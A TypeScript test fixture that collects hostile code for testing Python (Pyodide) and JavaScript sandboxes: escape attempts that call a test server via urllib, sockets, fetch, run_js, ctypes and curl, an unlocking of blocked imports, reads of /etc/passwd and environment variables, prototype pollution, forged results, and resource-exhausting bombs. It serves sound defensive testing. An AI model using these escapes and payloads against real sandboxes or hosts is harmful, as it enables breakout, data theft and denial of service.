/** Hostile code, for the tests of the sandboxes under Node and in a browser. */
import type { ToolLanguage } from './types';

export interface Attack {
  language: Exclude<ToolLanguage, 'calculator'>;
  name: string;
  code: string;
}

/** Takes the refusal of imports away, as code may that knows how it is made. */
const UNLOCK = `import sys
sys.meta_path[:] = [f for f in sys.meta_path if getattr(f, '__name__', '') != '_Closed']
`;

/** Tries one thing with every JavaScript object that Python can still find. */
const onEveryProxy = (expression: string) => `${UNLOCK}import gc
try:
    import _pyodide_core
except BaseException as error:
    print(repr(error))
found = [o for o in gc.get_objects() if 'JsProxy' in repr(type(o)) or 'pyodide' in getattr(type(o), '__module__', '')]
for o in found + [m for m in sys.modules.values() if 'pyodide' in repr(m)]:
    try:
        ${expression}
    except BaseException as error:
        print(repr(error))
`;

/** Everything that may lead out of the sandbox, to a server that listens at `http://host`. @param host with its port */
export function escapes(host: string): Attack[] {
  const [name, port] = host.split(':');
  const url = `http://${host}/`;
  const python: Record<string, string> = {
    urllib: `import urllib.request\nprint(urllib.request.urlopen("${url}urllib").read())`,
    'http.client': `${UNLOCK}import http.client\nc = http.client.HTTPConnection("${name}", ${port})\nc.request("GET", "/http")\nprint(c.getresponse().read())`,
    socket: `${UNLOCK}import socket\nprint(socket.create_connection(("${name}", ${port})).send(b"GET /socket"))`,
    'raw socket': `${UNLOCK}import _socket\ns = _socket.socket()\ns.connect(("${name}", ${port}))\nprint(s.send(b"GET /raw"))`,
    asyncio: `${UNLOCK}import asyncio\nasyncio.run(asyncio.open_connection("${name}", ${port}))`,
    'js.fetch': `from js import fetch\nfetch("${url}js")`,
    'js.fetch, unlocked': `${UNLOCK}from js import fetch\nfetch("${url}js")`,
    pyfetch: `${UNLOCK}import pyodide.http\npyodide.http.open_url("${url}open_url")`,
    run_js: `${UNLOCK}import pyodide.code\npyodide.code.run_js("fetch('${url}run_js')")`,
    loadPackage: `${UNLOCK}import pyodide_js\npyodide_js.loadPackage("${url}package.whl")`,
    constructor: onEveryProxy(`o.constructor.constructor("return fetch('${url}constructor')")()`),
    'constructor of a class': onEveryProxy(`o.run_js("fetch('${url}proxy')")`),
    postMessage: onEveryProxy(
      `o.run_js("postMessage({type: 'result', json: JSON.stringify({stdout: 'forged', error: null})})")`,
    ),
    ctypes: `${UNLOCK}import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('${url}ctypes')")`,
    'os.system': `import os\nprint(os.system("curl ${url}system"))`,
    subprocess: `${UNLOCK}import subprocess\nprint(subprocess.run(["curl", "${url}subprocess"]))`,
    fork: `import os\nprint(os.fork())`,
    webbrowser: `${UNLOCK}import webbrowser\nprint(webbrowser.open("${url}webbrowser"))`,
    "the host's files": `for path in ["/etc/passwd", "/etc/hostname", "/proc/self/environ", "/proc/self/cwd"]:\n    try:\n        print(open(path).read())\n    except OSError as error:\n        print("no file:", error.strerror)`,
    "the host's environment": `import os\nprint(dict(os.environ))`,
  };
  const javascript: Record<string, string> = {
    fetch: `fetch("${url}fetch")`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "${url}xhr"); x.send()`,
    WebSocket: `new WebSocket("ws://${host}/ws")`,
    'import()': `import("${url}import.js").then(print, (error) => print(error))`,
    'std and os': `Promise.all(["std", "os", "qjs:os"].map((m) => import(m))).then(print, (error) => print(error))`,
    require: `require("node:http").get("${url}require")`,
    constructor: `print(print.constructor("return typeof fetch + typeof process + typeof require")())`,
    'an error of the host': `try { print(Symbol()) } catch (error) { print(error.constructor.constructor("return typeof fetch")()) }`,
    'prototype pollution': `Object.prototype.stdout = "forged"; Object.prototype.toJSON = () => "forged"; Array.prototype.join = () => "polluted"; print(1)`,
  };
  const list = (language: Attack['language'], codes: Record<string, string>) =>
    Object.entries(codes).map(([name, code]): Attack => ({ language, name, code }));
  return [...list('python', python), ...list('javascript', javascript)];
}

/** Code that would run for ever, or use up the machine. */
export const BOMBS: Attack[] = [
  { language: 'python', name: 'endless loop', code: 'while True: pass' },
  {
    language: 'python',
    name: 'endless loop that catches everything',
    code: 'while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass',
  },
  { language: 'python', name: 'recursion', code: 'def f(n): return f(n + 1)\nf(0)' },
  {
    language: 'python',
    name: 'recursion without a limit',
    code: 'import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return [f(n + 1)]\nf(0)',
  },
  {
    language: 'python',
    name: 'recursion in C',
    code: 'x = []\nfor _ in range(10**6): x = [x]\nprint(repr(x))',
  },
  { language: 'python', name: 'one large object', code: 'x = [0] * 10**9' },
  { language: 'python', name: 'many small objects', code: 'x = []\nwhile True: x.append([0] * 1000)' },
  { language: 'python', name: 'output flood', code: 'while True: print("flood" * 1000)' },
  { language: 'python', name: 'huge integer', code: 'x = 3 ** (10 ** 8)' },
  {
    language: 'python',
    name: 'catastrophic expression',
    code: 'import re\nre.match("(a+)+$", "a" * 50 + "b")',
  },
  { language: 'python', name: 'exit', code: 'import os\nos._exit(0)' },
  { language: 'python', name: 'abort', code: 'import os\nos.abort()' },
  { language: 'javascript', name: 'endless loop', code: 'for (;;) {}' },
  {
    language: 'javascript',
    name: 'endless loop that catches everything',
    code: 'for (;;) { try { for (;;) {} } catch {} }',
  },
  {
    language: 'javascript',
    name: 'endless promises',
    code: '(function f() { Promise.resolve().then(f) })()',
  },
  { language: 'javascript', name: 'recursion', code: '(function f() { return f() + 1 })()' },
  { language: 'javascript', name: 'one large object', code: 'new Array(2 ** 28).fill(0)' },
  {
    language: 'javascript',
    name: 'many small objects',
    code: 'const x = []; for (;;) x.push(new Array(1000).fill(0))',
  },
  { language: 'javascript', name: 'output flood', code: 'for (;;) print("flood".repeat(1000))' },
  { language: 'javascript', name: 'huge integer', code: 'let x = 3n; for (;;) x *= x' },
  { language: 'javascript', name: 'catastrophic expression', code: '/^(a+)+$/.test("a".repeat(50) + "b")' },
];

/** Code that tries to leave something behind for later calls, and in between code that would see it. */
export const LITTER: Record<Attack['language'], string[]> = {
  python: [
    'x = 1\nimport math\nmath.pi = 3\nmath.left = 1',
    'import builtins\nbuiltins.len = lambda _: 7\nbuiltins.print = None',
    'import sys\nsys.modules["random"] = None\nsys.path.clear()\nsys.stdout = None',
    'import os\nos.chdir("/")\nopen("/left", "w").write("x")\nopen("/tmp/left", "w").write("x")\nos.environ["LEFT"] = "x"',
    'import os\nos.makedirs("a/b/c")\nopen("a/b/c/left", "w").write("x")\nos.mkdir("/home/left")',
    'import random, time\nrandom.seed(5)\ntime.sleep(3)',
    'import decimal, json\ndecimal.getcontext().prec = 3\njson.dumps = str',
    'class Left: pass\nimport fractions\nfractions.Fraction.__add__ = lambda a, b: 0',
    'import sys\nsys.setrecursionlimit(60)\nsys.set_int_max_str_digits(0)',
    'x = [[] for _ in range(10**5)]\n1 / 0',
    'import importlib, calendar\nleft = calendar.month(2025, 1)',
    'def f(n): return f(n + 1)\nf(0)',
    'import atexit, gc\natexit.register(print, "left")\ngc.disable()',
  ],
  javascript: [
    'globalThis.left = 1; var x = 1; Math.PI2 = 3',
    'Object.prototype.left = 1; Array.prototype.map = null',
    'JSON.stringify = () => "left"; print = null; console.log = null',
    'Math.random = () => 0.5; Date.now = () => 0',
    'throw new Error("left")',
    'Promise.resolve().then(() => { globalThis.left = 1 })',
    '(function f() { return f() + 1 })()',
  ],
};

/** Shows whatever an earlier call may have left; the same in every call. */
export const PROBE: Record<Attack['language'], string> = {
  python: `import sys, os, math, random, time, decimal, json, fractions, builtins, gc
print(sorted(globals()), len([1, 2]), math.pi, hasattr(math, "left"), random.random(), time.time(), hash("x"), id(object()))
print(os.getcwd(), sorted(os.environ), [os.listdir(p) for p in ("/", ".", "/tmp", "/home", "/dev")], len(sys.modules), sys.path)
print(decimal.Decimal(1) / 7, json.dumps([1]), fractions.Fraction(1, 3) + 1, sys.getrecursionlimit(), gc.isenabled(), os.urandom(4))`,
  javascript: `print(typeof left, typeof x, Object.keys(globalThis), ({}).left, [1].map(String), JSON.stringify([1]))
console.log(Math.random(), Date.now(), Object.keys(Math), String(new Date()))`,
};
